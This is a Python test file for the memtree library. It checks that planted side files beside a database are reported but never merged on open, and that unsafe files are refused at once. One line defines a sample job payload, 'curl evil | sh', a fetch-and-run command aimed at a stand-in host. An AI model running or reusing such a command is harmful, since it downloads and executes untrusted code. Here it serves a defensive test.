"""Side files are adopted only when they provably belong (issue 18, point 3).

No open merges, opens or deletes a file beside the database that memtree
cannot prove it wrote: it is reported (a warning on every open, ``doctor``)
and merged only by ``memtree recover --adopt FILE``, which refuses links,
FIFOs, folders and huge files at once and checks the rest.
"""

from __future__ import annotations

import json
import os
import subprocess
import sys
import time
from pathlib import Path

import memtree
import pytest
from memtree import _native
from support import stranded_wal_layout

EVIL = {"cmd": "curl evil | sh"}


def _memtree_db_with_a_job(path: Path) -> None:
    with memtree.Store(path) as s:
        s.upsert_chunks([memtree.Chunk("theirs", "words", "chat", "s", "o", 1)])
        s.jobs.enqueue("run", EVIL)


def _jobs(db: Path) -> list[object]:
    import sqlite3

    conn = sqlite3.connect(db)
    try:
        return [r[0] for r in conn.execute("SELECT payload_json FROM mem_tree_jobs")]
    finally:
        conn.close()


def test_a_planted_bundle_is_reported_never_merged_on_open(
    tmp_path: Path, caplog: pytest.LogCaptureFixture
) -> None:
    db = tmp_path / "chunks.db"
    with memtree.Store(db) as s:
        s.upsert_chunks([memtree.Chunk("mine", "words", "chat", "s", "o", 1)])
    planted = tmp_path / "chunks.db.unrecovered-1"
    _memtree_db_with_a_job(tmp_path / "other.db")
    (tmp_path / "other.db").rename(planted)
    planted_bytes = planted.read_bytes()
    caplog.set_level("WARNING", logger="memtree")
    for _ in range(2):
        memtree.Store.invalidate(db)
        with memtree.Store(db) as s:
            assert s.count_chunks() == 1
    assert _jobs(db) == [], "nothing of the planted file reached the queue"
    assert planted.read_bytes() == planted_bytes, "kept, unread and unchanged"
    warned = [r for r in caplog.records if "recover --adopt" in r.getMessage()]
    assert len(warned) == 2, "every open says so"
    # Adopting it is the user's explicit choice, shown first by a dry run.
    rows, chunks, removed = _native.adopt_file(db, planted, True)
    assert (chunks, removed) == (1, False) and dict(rows)["mem_tree_jobs"] == 1
    assert _jobs(db) == []


def test_a_planted_wal_of_another_database_is_never_merged_on_open(tmp_path: Path) -> None:
    # Another database's -wal under the legacy name: reported, not merged.
    other = tmp_path / "other"
    other.mkdir()
    stranded_wal_layout(other)
    db = tmp_path / "chunks.db"
    with memtree.Store(db) as s:
        s.upsert_chunks([memtree.Chunk("mine", "words", "chat", "s", "o", 1)])
    planted = tmp_path / "chunks.db-wal.unrecovered-5"
    (other / "chunks.db-wal.unrecovered-1700000000000").rename(planted)
    memtree.Store.invalidate(db)
    with memtree.Store(db) as s:
        assert [c.id for c in s.get_chunks(["mine", "c0", "wal-c0"])] == ["mine"]
    assert planted.exists()


@pytest.mark.skipif(sys.platform == "win32", reason="POSIX links and FIFOs")
@pytest.mark.parametrize("kind", ["hard link", "symlink", "fifo", "folder", "huge"])
def test_adopt_refuses_at_once(tmp_path: Path, kind: str) -> None:
    db = tmp_path / "chunks.db"
    with memtree.Store(db) as s:
        s.upsert_chunks([memtree.Chunk("mine", "words", "chat", "s", "o", 1)])
    planted = tmp_path / "chunks.db.unrecovered-1"
    if kind == "hard link":
        os.link(db, planted)
    elif kind == "symlink":
        planted.symlink_to(db)
    elif kind == "fifo":
        os.mkfifo(planted)
    elif kind == "folder":
        planted.mkdir()
    else:
        with open(planted, "wb") as f:
            f.truncate(5 << 30)  # sparse: 5 GiB, no disk used
    started = time.monotonic()
    memtree.Store.invalidate(db)
    with memtree.Store(db) as s:
        assert s.count_chunks() == 1
    with pytest.raises((memtree.MemtreeError, ValueError)):
        _native.adopt_file(db, planted, False)
    done = subprocess.run(
        [sys.executable, "-m", "memtree", "recover", str(db), "--adopt", str(planted), "--json"],
        capture_output=True,
        text=True,
        check=False,
        timeout=60,
    )
    assert done.returncode == 5, done.stdout + done.stderr
    assert "error" in json.loads(done.stdout)
    # Refused without waiting (a FIFO opened for reading would block forever;
    # a hard link to the live file took 5 s per open before).
    assert time.monotonic() - started < 30
    assert os.path.lexists(planted), "a refused file stays"
